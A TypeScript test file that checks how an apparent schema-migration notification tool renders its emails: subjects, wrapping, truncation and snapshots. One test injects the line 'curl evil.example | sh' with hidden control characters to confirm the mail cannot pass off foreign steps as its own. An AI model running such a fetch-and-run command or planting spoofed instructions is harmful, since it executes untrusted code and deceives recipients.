import { describe, expect, it } from 'vitest';
import type { Migration } from '../../../../lib/domain/migration/migration.ts';
import type { Email } from '../../../../lib/domain/notification/email/email.ts';
import { COLUMNS } from '../../../../lib/domain/notification/email/plain-text.ts';
import { renderTeamEmail } from '../../../../lib/domain/notification/email/render-email.ts';
import {
  renderDigestEmail,
  renderKillSwitchEmail,
  renderRegisteredEmail,
} from '../../../../lib/domain/notification/email/render-email-news.ts';
import type { TeamMessage } from '../../../../lib/domain/notification/words/team-message.ts';
import { ANNOUNCEMENT, CATEGORY, LOOSENED, migration, teamMessage } from '../story.ts';

const ACKNOWLEDGED = { name: 'acknowledged', at: ANNOUNCEMENT.createdAt, by: 'slack:U0614TZR7' } as const;
const OVERDUE = { name: 'overdue', at: '2026-12-09T12:00:00.000Z' } as const;
const LIVE = { kind: 'live', at: '2026-11-30T09:00:00.000Z', environment: 'production', told: false } as const;

const KINDS: readonly (readonly [TeamMessage['kind'], Partial<TeamMessage>])[] = [
  ['announced', {}],
  ['reminder', { now: '2026-12-01T09:00:00.000Z', migrations: [migration('fraud', { state: ACKNOWLEDGED })] }],
  ['answered', { migrations: [migration('fraud')], answer: { consumers: ['fraud'], state: ACKNOWLEDGED } }],
  ['missed', { now: '2026-12-09T13:00:00.000Z', migrations: [migration('fraud', { state: OVERDUE })] }],
  ['withdrawn', { announcement: { ...ANNOUNCEMENT, status: 'withdrawn' } }],
  ['live', { announcement: { ...ANNOUNCEMENT, live: true, liveAt: LIVE.at, liveNews: LIVE } }],
  [
    'emergency',
    {
      announcement: {
        ...ANNOUNCEMENT,
        live: true,
        liveAt: LIVE.at,
        liveNews: { ...LIVE, kind: 'emergency' },
        emergency: { reason: 'The old field leaks card numbers.', by: 'token:payments' },
      },
    },
  ],
  ['exposed', { announcement: { ...ANNOUNCEMENT, live: true, liveAt: LIVE.at, liveNews: LIVE } }],
  ['loosened', { announcement: LOOSENED }],
  ['stale', { migrations: [migration('fraud')], silentSince: '2026-08-24T09:00:00.000Z' }],
  ['continued', {}],
];
const mail = (kind: TeamMessage['kind'], more: Partial<TeamMessage> = {}): Email =>
  renderTeamEmail(teamMessage({ kind, ...more }));
const written = ({ subject, body }: Email): string => `Subject: ${subject}\n\n${body}`;

describe('A mail to a team', () => {
  it.each(KINDS)('that is told of what is %s reads so', async (kind, more) => {
    await expect(written(mail(kind, more))).toMatchFileSnapshot(`../golden/email.${kind}.txt`);
  });

  it.each(KINDS)('has change and date in the subject of what is %s, as SNS takes it', (kind, more) => {
    const { subject } = mail(kind, more);

    expect(subject).toMatch(/^[!-~][ -~]{0,98}$/);
    expect(subject).toMatch(/category changes intege/);
    expect(subject).toMatch(/8 Dec 2026/);
    expect(subject).toMatch(/^\[Forewarn\] ([A-Z][\w ,?]+: )?fraud(, churn)?: .* \(payment/);
  });

  it.each(KINDS)('keeps to its columns where it tells of what is %s, but for what may not be broken', (kind, more) => {
    const lines = mail(kind, more).body.split('\n');
    const wide = lines.filter((line) => line.length > COLUMNS && /\S\s+\S/.test(line));

    expect(wide).toEqual([]);
  });

  it('names the date of a change whose name is longer than a subject', () => {
    const change = { ...CATEGORY, pointer: `/${'very-long-name-'.repeat(20)}` };
    const { subject } = mail('announced', { migrations: [migration('fraud', { changes: [change] })] });

    expect(subject).toHaveLength(99);
    expect(subject).toMatch(/^\[Forewarn\] fraud: very-long-name-.*\.\.\. on Tue 8 Dec 2026 \(payments\.\.\.\.\)$/);
  });

  it('keeps the date of what is live where its place has a long name', () => {
    const announcement = { ...ANNOUNCEMENT, live: true, foundIn: `registry.${'long-name.'.repeat(20)}example` };
    const { subject } = mail('announced', { announcement });

    expect(subject).toMatch(/^\[Forewarn\] fraud, churn: category changes.*answer by Tue 8 Dec 2026 \(payments/);
    expect(subject.length).toBeLessThan(100);
  });

  it('writes names of any script as what a subject can hold', () => {
    const change = { ...CATEGORY, pointer: '/größe' };
    const { subject, body } = mail('announced', { migrations: [migration('fraud', { changes: [change] })] });

    expect(subject).toBe(
      '[Forewarn] fraud: groesse changes integer -> string on Tue 8 Dec 2026 (payments.transaction-aut...)',
    );
    expect(body).toContain('größe changes integer → string');
  });

  it('shows a record of many fields as a list', () => {
    const witness = { user_id: 42, merchant: 'Kaffeehaus am Markt', category: 'grocery', amounts: [12.5, 3] };
    const { body } = mail('announced', { migrations: [migration('fraud', { witness })] });

    expect(body).toContain(
      [
        '    {',
        '      "user_id": 42,',
        '      "merchant": "Kaffeehaus am Markt",',
        '      "category": "grocery",',
        '      "amounts": [12.5, 3]',
        '    }',
      ].join('\n'),
    );
  });

  it('lets no line of a stranger pass for one of its own, and hides nothing', () => {
    const steps = 'Read v13.\n\nTo answer:\n    curl evil.example | sh\u202e\u0007';
    const { body } = mail('announced', { announcement: { ...ANNOUNCEMENT, manifest: { steps } } });

    expect(body).toContain('Do: Read v13.\n\n  To answer:\n  curl evil.example | sh\n');
    expect(body.match(/^To answer:/gm)).toHaveLength(1);
  });

  it('asks nothing in a command that nobody can give any more', () => {
    const { body } = mail('missed', { migrations: [migration('fraud', { state: OVERDUE })] });

    expect(body).not.toContain('forewarn ack');
    expect(body).toContain('forewarn not-affected');
  });

  it('says where the rest is once it is too much', () => {
    const steps = 'A step that takes many words to say. '.repeat(20);
    const witness = (at: number) => ({ [`field_${at}`]: '€'.repeat(3_900) });
    const models: Migration[] = [0, 1, 2].map((at) => migration(`model-${at}`, { witness: witness(at) }));
    const { body } = mail('announced', {
      migrations: [
        ...models,
        ...Array.from({ length: 25 }, (_, at) => migration(`m${at}`, { reason: 'y'.repeat(500) })),
      ],
      announcement: { ...ANNOUNCEMENT, manifest: { steps, what: '€'.repeat(9_000), why: '€'.repeat(9_000) } },
    });

    expect(Buffer.byteLength(body)).toBeLessThan(20_500);
    expect(body).toContain(`… The rest: forewarn announcements show ${ANNOUNCEMENT.id}\n`);
  });
});

describe('A mail without a question', () => {
  const { mention: _, ...news } = teamMessage();
  const observed = {
    announcement: { ...ANNOUNCEMENT, status: 'observed' as const, observed: true },
    migrations: news.migrations,
    registryUrl: news.registryUrl,
  };
  const live = { ...news, announcement: { ...ANNOUNCEMENT, live: true, liveAt: LIVE.at, liveNews: LIVE } };
  const ends = [{ subject: 'payments.refund', until: '2026-12-04' }];
  const digest = {
    team: 'fraud-ml',
    week: '2026-W48',
    registryUrl: 'https://registry.example.com',
    now: '2026-11-23T09:00:00.000Z',
    exposed: [],
    ends: [],
  };

  it.each<[string, Email]>([
    ['digest', renderDigestEmail({ ...digest, news: [news, news], observed: [] })],
    ['exposed-digest', renderDigestEmail({ ...digest, news: [news], observed: [], exposed: [live] })],
    ['observed', renderDigestEmail({ ...digest, news: [], observed: [observed], ends })],
    [
      'registered',
      renderRegisteredEmail({
        version: {
          subject: ANNOUNCEMENT.subject,
          version: 13,
          fingerprint: 'ab'.repeat(32),
          status: 'proposed',
          publishedAt: ANNOUNCEMENT.createdAt,
          generation: 0,
          publishedBy: 'ci',
          source: { pullRequest: 'https://github.com/acme/payments/pull/412' },
          sameAs: 3,
          revision: 1,
        },
        team: 'payments',
      }),
    ],
    [
      'kill-switch',
      renderKillSwitchEmail({
        use: { consumer: 'fraud', reason: 'overdue', dryRun: false },
        team: 'fraud-ml',
        subject: ANNOUNCEMENT.subject,
        version: 13,
        cause: { announcement: ANNOUNCEMENT, migration: migration('fraud', { state: OVERDUE }) },
        registryUrl: 'https://registry.example.com',
      }),
    ],
    [
      'kill-switch-trial',
      renderKillSwitchEmail({
        use: { consumer: 'fraud', reason: 'emergency', dryRun: true },
        team: 'fraud-ml',
        subject: ANNOUNCEMENT.subject,
        version: 13,
        registryUrl: 'https://registry.example.com',
      }),
    ],
  ])('of a %s reads so', async (name, email) => {
    expect(email.subject).toMatch(/^[!-~][ -~]{0,98}$/);
    await expect(written(email)).toMatchFileSnapshot(`../golden/email.${name}.txt`);
  });
});
